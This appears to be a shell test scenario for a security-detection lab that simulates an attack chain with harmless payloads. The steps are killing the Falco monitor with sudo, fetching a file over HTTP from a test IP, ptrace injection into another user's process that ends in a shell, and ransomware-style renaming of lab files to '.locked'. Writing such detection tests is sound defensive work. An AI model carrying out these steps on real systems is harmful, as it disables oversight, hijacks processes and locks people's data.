# deploy sends a guard away and fetches something; bob's process is written into and becomes a shell; a script renames what lies in /srv.
# rules: recording
# format: ENRICHED
# node: build-03
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"
another_address 203.0.113.67
mkdir -p "$work/www" /srv/lab-files
echo "nothing" >"$work/www/readme.txt"
for number in $(seq 130); do echo "$number" >"/srv/lab-files/report-$number.txt"; done
serves "$work/www" 8000

from "$source_ip" deploy deploy-Passw0rd 'sudo pkill -x falco; sleep 1; curl -sS -o /tmp/readme.txt http://'"$source_ip"':8000/readme.txt; rm -f /tmp/readme.txt'

cat >"$work/victim.py" <<'PYTHON'
import os, time
open("/tmp/victim.pid", "w").write(str(os.getpid()))
time.sleep(6)
os.execv("/bin/sh", ["sh", "-c", "id"])
PYTHON
cat >"$work/inject.py" <<'PYTHON'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
pid = int(open("/tmp/victim.pid").read())
libc.ptrace(16, pid, None, None)
os.waitpid(pid, 0)
stack = next(line for line in open("/proc/%d/maps" % pid) if "[stack]" in line)
place = int(stack.split("-")[0], 16) + 64
print("poke", libc.ptrace(5, pid, place, 7))
libc.ptrace(17, pid, None, None)
PYTHON
cat >"$work/rename.py" <<'PYTHON'
import os
folder = "/srv/lab-files"
for name in sorted(os.listdir(folder)):
    os.rename(os.path.join(folder, name), os.path.join(folder, name + ".locked"))
PYTHON
chmod 755 "$work"; cp "$work"/*.py /opt/ && chmod 644 /opt/victim.py /opt/inject.py /opt/rename.py
from 203.0.113.67 bob bob-Passw0rd 'python3 /opt/victim.py' & victim=$!
sleep 3
from "$source_ip" deploy deploy-Passw0rd 'sudo python3 /opt/inject.py'
wait "$victim" || true
from "$source_ip" deploy deploy-Passw0rd 'sudo python3 /opt/rename.py; ls /srv/lab-files | wc -l'
rm -rf /srv/lab-files /opt/victim.py /opt/inject.py /opt/rename.py /tmp/victim.pid
kill "$server"
